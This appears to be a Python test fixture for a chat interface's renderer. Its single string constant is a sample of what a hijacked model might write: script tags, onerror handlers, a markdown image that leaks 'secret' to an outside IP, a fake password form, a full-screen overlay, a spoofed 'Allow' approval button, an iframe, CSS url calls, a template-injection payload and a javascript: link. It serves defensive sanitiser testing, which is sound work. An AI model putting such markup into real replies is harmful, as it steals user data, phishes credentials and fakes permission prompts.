"""What a model writes that was taken over: each part of it would run, call outside or pose as the page."""

HOSTILE = """<script>window.pwned = 1</script><img src="http://198.51.100.7/a.png" onerror="window.pwned = 2">
![tracking pixel](http://198.51.100.7/b.png?q=secret)
![ref][r]

[r]: http://198.51.100.7/c.png

<form action="http://198.51.100.7/f"><input name="password" placeholder="Your password"><button>Sign in</button></form>
<div style="position:fixed;inset:0;background:red;z-index:99999">overlay</div>
<div class="p-card p-approval"><button class="p-button pal pal-do--allow--Y2FsbC0x">Allow</button></div>
<iframe src="http://198.51.100.7/i"></iframe><style>body{background:url(http://198.51.100.7/s)}</style>
$$<img src="http://198.51.100.7/m.png" onerror="window.pwned = 3">$$

- list
   ```
- end
<img src="http://198.51.100.7/l.png" onerror="window.pwned = 4">

${window.pwned = 5} {{constructor.constructor('window.pwned = 6')()}} `<img src="http://198.51.100.7/n.png">`

[a link](javascript:window.pwned=7) and <https://example.org/plain>"""
